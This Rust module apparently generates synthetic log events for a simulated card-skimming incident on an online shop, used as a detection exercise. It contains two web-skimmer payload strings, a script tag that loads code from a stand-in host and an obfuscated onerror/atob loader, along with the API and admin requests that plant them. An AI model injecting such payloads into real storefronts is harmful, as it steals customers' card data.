//! A script that copies cards is put where every page of the checkout shows it: with a stolen key through the API, or by
//! somebody's hand in the administration. It reads nothing; customers' browsers send what they type in elsewhere.

use super::{Kind, Plot, Scene, ip, user};
use crate::{
    log::Statement,
    portal::Session,
    trial::{portal::Answer, services, staff::Role},
};

pub(super) const KIND: Kind = Kind { name: "skimmer", lasts_days: 1, on_working_days: false, plot };

/// What is put there: plain, or as one that hides does, without the words one would look for.
const PLAIN: &str = "<script src=\"https://cdn.example.invalid/j.js\"></script>";
const HIDDEN: &str = "<img src=x onerror=\"Function(atob(this.dataset.c))()\" data-c=\"Li4u\">";

fn plot(scene: &mut Scene<'_>) -> Plot {
    let company = scene.company;
    let program = scene.culprit(&[Role::Service], 1);
    let address = scene.stranger(company.profile.sites[0].1);
    let session = Session { address, ..services::token(company, program, scene.day) };
    let script = if scene.is_hard() { HIDDEN } else { PLAIN };
    let mut at_ms = scene.moment(program, scene.day);
    let mut events = Vec::new();
    for nth in 0..scene.count(9, 1) {
        let block = 3 + nth;
        let save = |table: &'static str, key: &str, column: &str| {
            let sql = format!("UPDATE `{table}` SET `{column}` = '{script}' WHERE ({key} = '{block}')");
            Statement::write(table, sql)
        };
        let by_api = Answer {
            method: "PUT",
            target: format!("/rest/V1/cmsBlock/{block}"),
            controller: "rest",
            action: "save",
            statements: vec![save("cms_block", "block_id", "content")],
        };
        let by_settings = Answer {
            method: "POST",
            target: "/shop_admin/admin/system_config/save/section/design/".into(),
            controller: "system_config",
            action: "save",
            statements: vec![save("core_config_data", "config_id", "value")],
        };
        let answer = if nth % 2 == 0 { by_api } else { by_settings };
        events.push(company.answered(program, &session, at_ms, answer, &mut scene.random));
        at_ms += scene.random.between(4_000, 60_000);
    }
    let entities = vec![user(program), ip(&session.address), "table:cms_block".into()];
    Plot { events, entities, lost: None }
}
